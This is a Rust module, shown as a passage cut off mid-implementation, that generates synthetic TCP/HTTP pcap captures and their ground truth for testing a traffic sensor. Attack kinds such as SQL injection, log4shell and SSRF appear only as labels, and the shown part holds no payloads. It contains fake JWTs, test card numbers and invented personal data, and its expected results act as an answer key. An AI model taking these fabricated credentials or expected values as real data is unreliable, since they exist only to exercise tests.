//! Synthetic captures: TCP conversations as real frames (Ethernet, optional VLAN or VXLAN, IPv4/IPv6, TCP
//! with correct checksums) written as pcap. Used by the sample generator (`examples/gen-pcaps.rs`), the tests
//! and the benches, so none of them needs a capture from elsewhere.

use std::io::Write;
use std::net::{IpAddr, SocketAddr};

use etherparse::PacketBuilder;

use crate::capture::{LinkType, Timestamp};
use crate::reassembly::Dir;

/// Writes a classic pcap file with nanosecond timestamps.
pub struct PcapWriter<W: Write> {
    w: W,
}

impl<W: Write> PcapWriter<W> {
    pub fn new(mut w: W, linktype: LinkType) -> std::io::Result<Self> {
        w.write_all(&0xa1b2_3c4du32.to_le_bytes())?;
        w.write_all(&2u16.to_le_bytes())?;
        w.write_all(&4u16.to_le_bytes())?;
        w.write_all(&0i32.to_le_bytes())?;
        w.write_all(&0u32.to_le_bytes())?;
        w.write_all(&262_144u32.to_le_bytes())?;
        w.write_all(&linktype.0.to_le_bytes())?;
        Ok(PcapWriter { w })
    }

    pub fn write_packet(&mut self, ts: Timestamp, data: &[u8]) -> std::io::Result<()> {
        let secs = (ts.0 / 1_000_000_000) as u32;
        let nanos = (ts.0 % 1_000_000_000) as u32;
        self.w.write_all(&secs.to_le_bytes())?;
        self.w.write_all(&nanos.to_le_bytes())?;
        self.w.write_all(&(data.len() as u32).to_le_bytes())?;
        self.w.write_all(&(data.len() as u32).to_le_bytes())?;
        self.w.write_all(data)
    }

    pub fn into_inner(self) -> W {
        self.w
    }
}

/// How frames are wrapped on the capture link.
#[derive(Copy, Clone, Debug, Default, PartialEq, Eq)]
pub enum Wrap {
    #[default]
    None,
    Vlan(u16),
    /// VXLAN (UDP 4789) between two tunnel endpoints, as AWS and Azure traffic mirroring deliver it.
    Vxlan {
        vni: u32,
    },
}

/// A TCP segment of a conversation, before it is turned into a frame.
#[derive(Clone, Debug)]
pub struct Segment {
    pub ts: Timestamp,
    pub dir: Dir,
    pub seq: u32,
    pub ack: u32,
    pub syn: bool,
    pub fin: bool,
    pub rst: bool,
    pub payload: Vec<u8>,
}

/// Builds one TCP connection segment by segment; `frames()` renders them.
#[derive(Clone, Debug)]
pub struct TcpConv {
    pub client: SocketAddr,
    pub server: SocketAddr,
    pub wrap: Wrap,
    pub mss: usize,
    /// Time between consecutive segments.
    pub step_ns: u64,
    ts: Timestamp,
    next_seq: [u32; 2],
    pub segments: Vec<Segment>,
}

impl TcpConv {
    pub fn new(client: SocketAddr, server: SocketAddr, start: Timestamp) -> Self {
        // Deterministic ISNs that differ per connection (and cross 2^32 for some ports).
        let isn_c = (u32::from(client.port())).wrapping_mul(2_654_435_761);
        let isn_s = (u32::from(server.port()) ^ u32::from(client.port())).wrapping_mul(40_503).wrapping_add(7);
        TcpConv {
            client,
            server,
            wrap: Wrap::None,
            mss: 1448,
            step_ns: 50_000,
            ts: start,
            next_seq: [isn_c, isn_s],
            segments: Vec::new(),
        }
    }

    pub fn with_isn(mut self, client: u32, server: u32) -> Self {
        self.next_seq = [client, server];
        self
    }

    fn tick(&mut self) -> Timestamp {
        self.ts = Timestamp(self.ts.0 + self.step_ns);
        self.ts
    }

    pub fn now(&self) -> Timestamp {
        self.ts
    }

    /// Advances the conversation clock (think time between requests).
    pub fn wait(&mut self, ns: u64) {
        self.ts = Timestamp(self.ts.0 + ns);
    }

    fn push(&mut self, dir: Dir, syn: bool, fin: bool, rst: bool, payload: &[u8]) {
        let ts = self.tick();
        let i = dir.idx();
        let seq = self.next_seq[i];
        let ack = self.next_seq[1 - i];
        self.segments.push(Segment { ts, dir, seq, ack, syn, fin, rst, payload: payload.to_vec() });
        let adv = payload.len() as u32 + u32::from(syn) + u32::from(fin);
        self.next_seq[i] = seq.wrapping_add(adv);
    }

    pub fn handshake(&mut self) -> &mut Self {
        self.push(Dir::ToServer, true, false, false, b"");
        self.push(Dir::ToClient, true, false, false, b"");
        self.push(Dir::ToServer, false, false, false, b"");
        self
    }

    /// Sends `data` in MSS-sized segments, each acknowledged by the peer.
    pub fn send(&mut self, dir: Dir, data: &[u8]) -> &mut Self {
        for chunk in data.chunks(self.mss.max(1)) {
            self.push(dir, false, false, false, chunk);
            self.push(dir.other(), false, false, false, b"");
        }
        self
    }

    /// Orderly close: FIN from the client, FIN from the server, final ACK.
    pub fn close(&mut self) -> &mut Self {
        self.push(Dir::ToServer, false, true, false, b"");
        self.push(Dir::ToClient, false, true, false, b"");
        self.push(Dir::ToServer, false, false, false, b"");
        self
    }

    /// Orderly close started by `dir` (an HTTP/1.0 server closes first to end the response).
    pub fn close_from(&mut self, dir: Dir) -> &mut Self {
        self.push(dir, false, true, false, b"");
        self.push(dir.other(), false, true, false, b"");
        self.push(dir, false, false, false, b"");
        self
    }

    pub fn reset(&mut self, dir: Dir) -> &mut Self {
        self.push(dir, false, false, true, b"");
        self
    }

    /// Renders every segment as a link-layer frame (Ethernet, wrapped as configured).
    pub fn frames(&self) -> Vec<(Timestamp, Vec<u8>)> {
        self.segments.iter().map(|s| (s.ts, self.frame(s))).collect()
    }

    pub fn frame(&self, s: &Segment) -> Vec<u8> {
        let (src, dst) = match s.dir {
            Dir::ToServer => (self.client, self.server),
            Dir::ToClient => (self.server, self.client),
        };
        let inner = tcp_frame(src, dst, self.wrap, s);
        match self.wrap {
            Wrap::Vxlan { vni } => vxlan_wrap(vni, &inner),
            _ => inner,
        }
    }
}

const MAC_CLIENT: [u8; 6] = [0x02, 0, 0, 0, 0, 0x01];
const MAC_SERVER: [u8; 6] = [0x02, 0, 0, 0, 0, 0x02];

fn tcp_frame(src: SocketAddr, dst: SocketAddr, wrap: Wrap, s: &Segment) -> Vec<u8> {
    let eth = PacketBuilder::ethernet2(MAC_CLIENT, MAC_SERVER);
    let ip = match (src.ip(), dst.ip(), wrap) {
        (IpAddr::V4(a), IpAddr::V4(b), Wrap::Vlan(id)) => eth
            .single_vlan(etherparse::VlanId::try_new(id & 0x0fff).unwrap_or_default())
            .ipv4(a.octets(), b.octets(), 64),
        (IpAddr::V4(a), IpAddr::V4(b), _) => eth.ipv4(a.octets(), b.octets(), 64),
        (IpAddr::V6(a), IpAddr::V6(b), Wrap::Vlan(id)) => eth
            .single_vlan(etherparse::VlanId::try_new(id & 0x0fff).unwrap_or_default())
            .ipv6(a.octets(), b.octets(), 64),
        (IpAddr::V6(a), IpAddr::V6(b), _) => eth.ipv6(a.octets(), b.octets(), 64),
        // Mixed families cannot form a packet; callers never do this.
        _ => return Vec::new(),
    };
    let mut tcp = ip.tcp(src.port(), dst.port(), s.seq, 64_240);
    if !(s.syn && s.dir == Dir::ToServer) {
        tcp = tcp.ack(s.ack);
    }
    if s.syn {
        tcp = tcp.syn();
    }
    if s.fin {
        tcp = tcp.fin();
    }
    if s.rst {
        tcp = tcp.rst();
    }
    if !s.payload.is_empty() {
        tcp = tcp.psh();
    }
    let mut out = Vec::with_capacity(tcp.size(s.payload.len()));
    // Writing into a Vec cannot fail; a builder error would mean a payload over 64 KiB, which `send` prevents.
    let _ = tcp.write(&mut out, &s.payload);
    out
}

fn vxlan_wrap(vni: u32, inner: &[u8]) -> Vec<u8> {
    let mut payload = Vec::with_capacity(inner.len() + 8);
    payload.extend_from_slice(&[0x08, 0, 0, 0]);
    payload.extend_from_slice(&(vni << 8).to_be_bytes());
    payload.extend_from_slice(inner);
    let b = PacketBuilder::ethernet2([0x02, 0, 0, 0, 0xaa, 1], [0x02, 0, 0, 0, 0xaa, 2])
        .ipv4([172, 31, 0, 10], [172, 31, 0, 20], 64)
        .udp(49_152 + (vni % 1000) as u16, 4789);
    let mut out = Vec::with_capacity(b.size(payload.len()));
    let _ = b.write(&mut out, &payload);
    out
}

/// Writes frames to a pcap file in `ts` order.
pub fn write_pcap(path: &std::path::Path, frames: &mut [(Timestamp, Vec<u8>)]) -> std::io::Result<()> {
    frames.sort_by_key(|(ts, _)| *ts);
    let f = std::io::BufWriter::new(std::fs::File::create(path)?);
    let mut w = PcapWriter::new(f, LinkType::ETHERNET)?;
    for (ts, data) in frames.iter() {
        w.write_packet(*ts, data)?;
    }
    w.into_inner().flush()
}

/// HTTP/1.1 request bytes.
pub fn http_request(method: &str, path: &str, host: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut v = format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\n").into_bytes();
    for (k, val) in headers {
        v.extend_from_slice(format!("{k}: {val}\r\n").as_bytes());
    }
    if !body.is_empty() || matches!(method, "POST" | "PUT" | "PATCH") {
        v.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    v.extend_from_slice(b"\r\n");
    v.extend_from_slice(body);
    v
}

/// HTTP/1.1 response bytes with a Content-Length body.
pub fn http_response(status: u16, reason: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut v = format!("HTTP/1.1 {status} {reason}\r\n").into_bytes();
    for (k, val) in headers {
        v.extend_from_slice(format!("{k}: {val}\r\n").as_bytes());
    }
    v.extend_from_slice(format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes());
    v.extend_from_slice(body);
    v
}

/// Deterministic pseudo-random numbers for generators and tests (splitmix64; no dependency, same output on
/// every platform).
#[derive(Clone, Debug)]
pub struct Rng(pub u64);

impl Rng {
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
}

/// A REST API conversation between `clients` clients and a few services: keep-alive connections carrying
/// JSON requests and responses (ids in paths, personal-looking data, bearer tokens, some errors). Every
/// transaction is complete and framed by Content-Length, so a sensor must report exactly
/// `requests_per_conn * conns` transactions.
pub fn api_traffic(conns: usize, requests_per_conn: usize, seed: u64, wrap: Wrap) -> Vec<(Timestamp, Vec<u8>)> {
    const HOSTS: [&str; 3] = ["api.shop.example", "users.internal.example", "pay.shop.example"];
    let mut rng = Rng(seed);
    let mut frames = Vec::new();
    let start = Timestamp::from_secs(1_767_225_600);
    for c in 0..conns {
        let client =
            SocketAddr::new(IpAddr::from([10, 1, (c / 250) as u8, (c % 250) as u8 + 1]), 40_000 + (c % 20_000) as u16);
        let host_i = rng.below(HOSTS.len() as u64) as usize;
        let server = SocketAddr::new(IpAddr::from([10, 2, 0, host_i as u8 + 10]), 80);
        let mut conv = TcpConv::new(client, server, Timestamp(start.0 + c as u64 * 3_000_000));
        conv.wrap = wrap;
        conv.handshake();
        for _ in 0..requests_per_conn {
            let id = 1 + rng.below(5000);
            let token = format!("Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLXtpZH0ifQ.{:016x}", rng.next_u64());
            let (req, resp) = match rng.below(5) {
                0 => {
                    let body = format!(
                        "{{\"id\":{id},\"name\":\"User {id}\",\"email\":\"user{id}@example.com\",\"phone\":\"+1-202-555-{:04}\",\"orders\":[{{\"id\":\"{:08x}-0000-4000-8000-{:012x}\",\"total\":{}.{:02}}}]}}",
                        id % 10_000,
                        rng.next_u64() as u32,
                        rng.next_u64() & 0xffff_ffff_ffff,
                        rng.below(900) + 10,
                        rng.below(100)
                    );
                    (
                        http_request(
                            "GET",
                            &format!("/api/v1/users/{id}"),
                            HOSTS[host_i],
                            &[("Authorization", &token), ("Accept", "application/json")],
                            b"",
                        ),
                        http_response(200, "OK", &[("Content-Type", "application/json")], body.as_bytes()),
                    )
                }
                1 => {
                    let body = format!(
                        "{{\"name\":\"New User\",\"email\":\"new{id}@example.org\",\"password\":\"s3cret-{id}\"}}"
                    );
                    (
                        http_request(
                            "POST",
                            "/api/v1/users",
                            HOSTS[host_i],
                            &[("Authorization", &token), ("Content-Type", "application/json")],
                            body.as_bytes(),
                        ),
                        http_response(
                            201,
                            "Created",
                            &[("Content-Type", "application/json"), ("Location", &format!("/api/v1/users/{id}"))],
                            format!("{{\"id\":{id}}}").as_bytes(),
                        ),
                    )
                }
                2 => {
                    let items: Vec<String> = (0..1 + rng.below(40))
                        .map(|i| {
                            format!(
                                "{{\"sku\":\"SKU-{i:05}\",\"price\":{}.99,\"name\":\"Product {i}\"}}",
                                rng.below(500)
                            )
                        })
                        .collect();
                    (
                        http_request(
                            "GET",
                            &format!("/api/v2/products?category=c{}&page={}", rng.below(20), rng.below(5)),
                            HOSTS[host_i],
                            &[("Accept", "application/json")],
                            b"",
                        ),
                        http_response(
                            200,
                            "OK",
                            &[("Content-Type", "application/json")],
                            format!("[{}]", items.join(",")).as_bytes(),
                        ),
                    )
                }
                3 => (
                    http_request(
                        "DELETE",
                        &format!(
                            "/api/v1/orders/{:08x}-1111-4222-8333-{:012x}",
                            rng.next_u64() as u32,
                            rng.next_u64() & 0xffff_ffff_ffff
                        ),
                        HOSTS[host_i],
                        &[("Authorization", &token)],
                        b"",
                    ),
                    http_response(
                        404,
                        "Not Found",
                        &[("Content-Type", "application/json")],
                        b"{\"error\":\"not found\"}",
                    ),
                ),
                _ => (
                    http_request("GET", "/api/v1/accounts/me", HOSTS[host_i], &[], b""),
                    http_response(
                        401,
                        "Unauthorized",
                        &[("WWW-Authenticate", "Bearer")],
                        b"{\"error\":\"unauthorized\"}",
                    ),
                ),
            };
            conv.send(Dir::ToServer, &req);
            conv.wait(200_000 + rng.below(800_000));
            conv.send(Dir::ToClient, &resp);
            conv.wait(1_000_000);
        }
        conv.close();
        frames.extend(conv.frames());
    }
    frames.sort_by_key(|(ts, _)| *ts);
    frames
}

// ---------------------------------------------------------------------------------------------------------
// The demo capture: a REST API on a SPAN port, with its ground truth.

/// One HTTP transaction the demo capture contains, as the sensor must report it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DemoTx {
    pub client: SocketAddr,
    pub server: SocketAddr,
    pub method: &'static str,
    pub uri: String,
    pub host: String,
    /// "HTTP/1.1" or "HTTP/1.0" (the response uses the same version).
    pub version: &'static str,
    pub user_agent: String,
    pub status: u16,
    /// Response body bytes after de-chunking, before content decoding.
    pub response_body_len: u64,
    /// Response body bytes after content decoding (equal to `response_body_len` unless gzip).
    pub response_body_decoded_len: u64,
    pub request_body_len: u64,
    pub chunked: bool,
    pub gzip: bool,
    /// What the request is, when it is an attack ("sqli", "path_traversal", "xss", "log4shell", "ssrf",
    /// "credential_stuffing", "scanner", "debug_config", "bola").
    pub attack: Option<&'static str>,
}

/// The seed of `pcaps/demo.pcap`.
pub const DEMO_SEED: u64 = 1;

/// The ground truth of [`demo_traffic`].
#[derive(Clone, Debug, Default)]
pub struct DemoTruth {
    pub transactions: Vec<DemoTx>,
    /// TCP connections (each one flow).
    pub flows: usize,
    /// Connections closed by FIN from both sides.
    pub fin_flows: usize,
    /// Connections ended by a RST after their last exchange.
    pub rst_flows: usize,
    /// Connections left open and silent for longer than the default TCP idle timeout (300 s) while the
    /// capture goes on.
    pub idle_flows: usize,
    /// Distinct client addresses, the attacker and the BOLA client included.
    pub clients: usize,
    pub attacker: Option<IpAddr>,
    /// The client that walks `/api/v1/users/{id}` over sequential ids.
    pub bola_client: Option<IpAddr>,
    /// Every bearer token, API key and session cookie sent, to check that outputs mask them.
    pub secrets: Vec<String>,
}

/// The demo capture (`pcaps/demo.pcap`): about 60 clients on keep-alive connections to four services
/// (three by name, one by IP), HTTP/1.1 with some HTTP/1.0, ids of several shapes, query strings, JSON
/// bodies with personal-looking data, bearer JWTs, Basic auth, API keys and session cookies, chunked and
/// gzip responses, a realistic status mix with stack traces, and one attacker (SQL injection, path
/// traversal, XSS, log4shell, SSRF, credential stuffing, a scanner, an exposed debug endpoint) plus one
/// client enumerating user ids. Two connections end with a RST and one is left idle. Deterministic.
pub fn demo_traffic(seed: u64) -> Vec<(Timestamp, Vec<u8>)> {
    demo_capture(seed).0
}

/// What [`demo_traffic`] with the same seed contains.
pub fn demo_expected(seed: u64) -> DemoTruth {
    demo_capture(seed).1
}

/// [`demo_traffic`] and [`demo_expected`] in one pass.
pub fn demo_capture(seed: u64) -> (Vec<(Timestamp, Vec<u8>)>, DemoTruth) {
    let mut d = Demo::new(seed);
    d.run();
    d.frames.sort_by_key(|(ts, _)| *ts);
    d.truth.clients = d.ports.len();
    (d.frames, d.truth)
}

#[derive(Copy, Clone, Debug, PartialEq, Eq)]
enum Svc {
    Shop,
    Users,
    Payments,
    Config,
}

impl Svc {
    fn host(self) -> &'static str {
        match self {
            Svc::Shop => "api.shop.example",
            Svc::Users => "users.internal.example",
            Svc::Payments => "payments.shop.example",
            Svc::Config => "10.20.3.7:8000",
        }
    }
    fn addr(self) -> SocketAddr {
        match self {
            Svc::Shop => SocketAddr::new(IpAddr::from([10, 20, 0, 10]), 80),
            Svc::Users => SocketAddr::new(IpAddr::from([10, 20, 1, 15]), 8080),
            Svc::Payments => SocketAddr::new(IpAddr::from([10, 20, 2, 20]), 80),
            Svc::Config => SocketAddr::new(IpAddr::from([10, 20, 3, 7]), 8000),
        }
    }
    fn server(self) -> &'static str {
        match self {
            Svc::Shop => "nginx/1.22.1",
            Svc::Users => "Jetty(9.4.51.v20230217)",
            Svc::Payments => "gunicorn/21.2.0",
            Svc::Config => "Werkzeug/2.3.7 Python/3.11.4",
        }
    }
}

struct Req {
    method: &'static str,
    uri: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Req {
    fn new(method: &'static str, uri: impl Into<String>) -> Self {
        Req { method, uri: uri.into(), headers: Vec::new(), body: Vec::new() }
    }
    fn h(mut self, k: &str, v: impl Into<String>) -> Self {
        self.headers.push((k.to_owned(), v.into()));
        self
    }
    fn json(mut self, body: String) -> Self {
        self.headers.push(("Content-Type".into(), "application/json".into()));
        self.body = body.into_bytes();
        self
    }
}

struct Resp {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    gzip: bool,
    chunked: bool,
}

impl Resp {
    fn new(status: u16) -> Self {
        Resp { status, headers: Vec::new(), body: Vec::new(), gzip: false, chunked: false }
    }
    fn json(status: u16, body: String) -> Self {
        Resp::new(status).h("Content-Type", "application/json").body(body)
    }
    fn h(mut self, k: &str, v: impl Into<String>) -> Self {
        self.headers.push((k.to_owned(), v.into()));
        self
    }
    fn body(mut self, b: String) -> Self {
        self.body = b.into_bytes();
        self
    }
    fn gzip(mut self) -> Self {
        self.gzip = true;
        self
    }
    fn chunked(mut self) -> Self {
        self.chunked = true;
        self
    }
}

fn reason(status: u16) -> &'static str {
    match status {
        200 => "OK",
        201 => "Created",
        204 => "No Content",
        304 => "Not Modified",
        400 => "Bad Request",
        401 => "Unauthorized",
        403 => "Forbidden",
        404 => "Not Found",
        429 => "Too Many Requests",
        500 => "Internal Server Error",
        _ => "Unknown",
    }
}

/// A client of the demo: its address, its credentials and how it talks.
#[derive(Clone, Debug)]
struct Client {
    ip: IpAddr,
    user_id: u64,
    name: (&'static str, &'static str),
    jwt: String,
    session: String,
    user_agent: &'static str,
}

const FIRST: [&str; 16] = [
    "Jane", "John", "Maria", "Ahmed", "Li", "Sofia", "Lukas", "Amara", "Kenji", "Olivia", "Mateo", "Priya", "Noah",
    "Fatima", "Emma", "Diego",
];
const LAST: [&str; 16] = [
    "Doe", "Smith", "Garcia", "Khan", "Wei", "Rossi", "Muller", "Okafor", "Tanaka", "Brown", "Lopez", "Patel",
    "Johnson", "Haddad", "Martin", "Silva",
];
const STREETS: [&str; 8] =
    ["Main St", "Oak Avenue", "Elm Street", "Baker Street", "Maple Drive", "Cedar Lane", "Hauptstrasse", "Pine Road"];
const CITIES: [&str; 6] = [
    "Springfield, IL 62704",
    "Austin, TX 78701",
    "London NW1 6XE",
    "10115 Berlin",
    "Portland, OR 97205",
    "75002 Paris",
];
/// Luhn-valid test card numbers (Stripe and processor documentation), some written with spaces.
const CARDS: [&str; 6] = [
    "4242 4242 4242 4242",
    "4111111111111111",
    "5555555555554444",
    "378282246310005",
    "6011 1111 1111 1117",
    "5105105105105100",
];
const IBANS: [&str; 3] = ["DE89370400440532013000", "GB82WEST12345698765432", "FR1420041010050500013M02606"];
const USER_AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "ShopApp/3.4.1 (Android 14; Pixel 7)",
];

fn b64url(b: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(b)
}

/// A syntactically real HS256 JWT (header and payload decode to JSON; the signature is random bytes).
fn jwt(rng: &mut Rng, sub: u64, email: &str, exp: u64) -> String {
    let header = b64url(br#"{"alg":"HS256","typ":"JWT"}"#);
    let payload = b64url(
        format!(r#"{{"sub":"{sub}","email":"{email}","iat":{},"exp":{exp},"scope":"read write"}}"#, exp - 3600)
            .as_bytes(),
    );
    let sig: Vec<u8> = (0..4).flat_map(|_| rng.next_u64().to_le_bytes()).collect();
    format!("{header}.{payload}.{}", b64url(&sig))
}

fn uuid(rng: &mut Rng) -> String {
    let a = rng.next_u64();
    let b = rng.next_u64();
    format!(
        "{:08x}-{:04x}-4{:03x}-{:x}{:03x}-{:012x}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0xfff,
        8 + (b >> 62),
        (b >> 48) & 0xfff,
        b & 0xffff_ffff_ffff
    )
}

/// `Date:` header value (RFC 9110 IMF-fixdate) for a capture timestamp.
fn http_date(ts: Timestamp) -> String {
    let secs = ts.0 / 1_000_000_000;
    let days = (secs / 86_400) as i64;
    let rem = secs % 86_400;
    // Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    const WD: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];
    const MON: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
    format!(
        "{}, {:02} {} {} {:02}:{:02}:{:02} GMT",
        WD.get(days.rem_euclid(7) as usize).copied().unwrap_or("Thu"),
        day,
        MON.get((month - 1) as usize).copied().unwrap_or("Jan"),
        year,
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

// GzEncoder is an encoder: the disallowed list only names decoders, whose output must be capped.
fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    // Writing into a Vec cannot fail.
    let _ = e.write_all(data);
    e.finish().unwrap_or_default()
}

/// Splits `body` into chunks of varying sizes: `size;` lines, the data, the last `0` chunk.
fn chunk(body: &[u8], rng: &mut Rng) -> Vec<u8> {
    let mut out = Vec::with_capacity(body.len() + 64);
    let mut rest = body;
    while !rest.is_empty() {
        let n = (256 + rng.below(1800) as usize).min(rest.len());
        let (head, tail) = rest.split_at(n);
        out.extend_from_slice(format!("{n:x}\r\n").as_bytes());
        out.extend_from_slice(head);
        out.extend_from_slice(b"\r\n");
        rest = tail;
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

const JAVA_TRACE: &str = "java.lang.NullPointerException: Cannot invoke \\\"com.example.users.model.Address.getCountry()\\\" because \\\"user.address\\\" is null\\n\\tat com.example.users.service.UserService.toDto(UserService.java:214)\\n\\tat com.example.users.service.UserService.findById(UserService.java:98)\\n\\tat com.example.users.web.UserController.get(UserController.java:57)\\n\\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)\\n\\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)\\n\\tat org.eclipse.jetty.servlet.ServletHolder.handle(ServletHolder.java:799)\\n\\tat org.eclipse.jetty.server.Server.handle(Server.java:516)\\n\\tat java.base/java.lang.Thread.run(Thread.java:1583)\\n";

const PY_TRACE: &str = "Traceback (most recent call last):\n  File \"/usr/local/lib/python3.11/site-packages/flask/app.py\", line 1484, in full_dispatch_request\n    rv = self.dispatch_request()\n  File \"/app/payments/views.py\", line 142, in create_refund\n    charge = Charge.objects.get(id=payload[\"charge_id\"])\n  File \"/app/payments/models.py\", line 77, in get\n    return self._db.execute(\"SELECT * FROM charges WHERE id = %s\", (cid,)).fetchone()\npsycopg2.errors.UndefinedColumn: column \"charge_id\" does not exist\nLINE 1: SELECT * FROM charges WHERE charge_id = 'ch_3OaR2eLkdIwHu7ix0'\n";

struct Demo {
    rng: Rng,
    frames: Vec<(Timestamp, Vec<u8>)>,
    truth: DemoTruth,
    /// Next ephemeral port per client address (unique 5-tuples).
    ports: std::collections::BTreeMap<IpAddr, u16>,
    start: Timestamp,
}

impl Demo {
    fn new(seed: u64) -> Self {
        Demo {
            rng: Rng(seed),
            frames: Vec::new(),
            truth: DemoTruth::default(),
            ports: std::collections::BTreeMap::new(),
            // 2026-01-15 09:00:00 UTC
            start: Timestamp::from_secs(1_768_467_600),
        }
    }

    fn pick<T: Copy + Default>(&mut self, xs: &[T]) -> T {
        let i = self.rng.below(xs.len() as u64) as usize;
        xs.get(i).copied().unwrap_or_default()
    }

    fn client(&mut self, ip: IpAddr) -> Client {
        let user_id = 1000 + self.rng.below(9000);
        let name = (self.pick(&FIRST), self.pick(&LAST));
        let email = format!("{}.{}@example.com", name.0.to_lowercase(), name.1.to_lowercase());
        let exp = self.start.0 / 1_000_000_000 + 3600;
        let jwt = jwt(&mut self.rng, user_id, &email, exp);
        let session = format!("{:016x}{:016x}", self.rng.next_u64(), self.rng.next_u64());
        let user_agent = self.pick(&USER_AGENTS);
        self.truth.secrets.push(jwt.clone());
        self.truth.secrets.push(session.clone());
        Client { ip, user_id, name, jwt, session, user_agent }
    }

    fn open(&mut self, ip: IpAddr, svc: Svc, at_ns: u64) -> TcpConv {
        let base = 49_152 + (self.rng.below(8000) as u16);
        let port = self.ports.entry(ip).or_insert(base);
        *port = port.wrapping_add(1 + (self.rng.below(5) as u16)).max(1024);
        let client = SocketAddr::new(ip, *port);
        let mut conv = TcpConv::new(client, svc.addr(), Timestamp(self.start.0 + at_ns));
        conv.step_ns = 40_000 + self.rng.below(200_000);
        conv.handshake();
        self.truth.flows += 1;
        conv
    }

    fn finish(&mut self, conv: TcpConv) {
        self.frames.extend(conv.frames());
    }

    #[allow(clippy::too_many_arguments)]
    fn exchange(
        &mut self,
        conv: &mut TcpConv,
        svc: Svc,
        version: &'static str,
        ua: &str,
        req: Req,
        resp: Resp,
        attack: Option<&'static str>,
    ) {
        let mut r = format!("{} {} {version}\r\nHost: {}\r\n", req.method, req.uri, svc.host()).into_bytes();
        let mut hdrs = req.headers;
        if !hdrs.iter().any(|(k, _)| k == "User-Agent") {
            hdrs.insert(0, ("User-Agent".into(), ua.to_owned()));
        }
        for (k, v) in &hdrs {
            r.extend_from_slice(format!("{k}: {v}\r\n").as_bytes());
        }
        if !req.body.is_empty() {
            r.extend_from_slice(format!("Content-Length: {}\r\n", req.body.len()).as_bytes());
        }
        if version == "HTTP/1.0" {
            r.extend_from_slice(b"Connection: close\r\n");
        }
        r.extend_from_slice(b"\r\n");
        r.extend_from_slice(&req.body);
        conv.send(Dir::ToServer, &r);
        conv.wait(2_000_000 + self.rng.below(60_000_000));

        let status = resp.status;
        let mut w = format!("{version} {status} {}\r\n", reason(status)).into_bytes();
        w.extend_from_slice(format!("Date: {}\r\nServer: {}\r\n", http_date(conv.now()), svc.server()).as_bytes());
        for (k, v) in &resp.headers {
            w.extend_from_slice(format!("{k}: {v}\r\n").as_bytes());
        }
        let plain_len = resp.body.len() as u64;
        let bodyless = matches!(status, 204 | 304) || req.method == "HEAD";
        let payload = if bodyless {
            Vec::new()
        } else if resp.gzip {
            w.extend_from_slice(b"Content-Encoding: gzip\r\nVary: Accept-Encoding\r\n");
            gzip(&resp.body)
        } else {
            resp.body
        };
        let body_len = payload.len() as u64;
        if bodyless {
        } else if resp.chunked {
            w.extend_from_slice(b"Transfer-Encoding: chunked\r\n");
        } else {
            w.extend_from_slice(format!("Content-Length: {}\r\n", payload.len()).as_bytes());
        }
        if version == "HTTP/1.0" {
            w.extend_from_slice(b"Connection: close\r\n");
        } else if self.rng.below(3) == 0 {
            w.extend_from_slice(b"Connection: keep-alive\r\n");
        }
        w.extend_from_slice(b"\r\n");
        if resp.chunked && !bodyless {
            let c = chunk(&payload, &mut self.rng);
            w.extend_from_slice(&c);
        } else {
            w.extend_from_slice(&payload);
        }
        conv.send(Dir::ToClient, &w);
        self.truth.transactions.push(DemoTx {
            client: conv.client,
            server: conv.server,
            method: req.method,
            uri: req.uri,
            host: svc.host().to_owned(),
            version,
            user_agent: hdrs.iter().find(|(k, _)| k == "User-Agent").map(|(_, v)| v.clone()).unwrap_or_default(),
            status,
            response_body_len: body_len,
            response_body_decoded_len: if bodyless { 0 } else { plain_len },
            request_body_len: req.body.len() as u64,
            chunked: resp.chunked && !bodyless,
            gzip: resp.gzip && !bodyless,
            attack,
        });
        // Think time before the next request on the connection.
        conv.wait(50_000_000 + self.rng.below(3_000_000_000));
    }

